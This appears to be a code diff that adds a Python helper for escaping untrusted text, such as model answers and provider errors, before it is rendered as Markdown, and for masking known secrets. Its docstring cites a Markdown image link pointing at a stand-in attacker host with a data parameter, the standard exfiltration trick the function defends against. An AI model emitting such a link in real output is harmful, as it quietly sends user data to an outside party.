@@ -66,3 +66,14 @@ def run_manager():
     from workbench.run_manager import manager
 
     return manager()
+
+
+def md_text(text) -> str:
+    """Untrusted text (a model's answer, a row key, a provider's error) inside Markdown, shown as
+    typed: Markdown and HTML syntax are escaped, so `![](http://attacker/?d=...)` stays text and
+    the browser fetches nothing. Known secret values are masked too."""
+    import re
+
+    from workbench import secrets
+
+    return re.sub(r"([\\`*_\[\]()<>#|~$!{}])", r"\\\1", str(secrets.mask(str(text))))
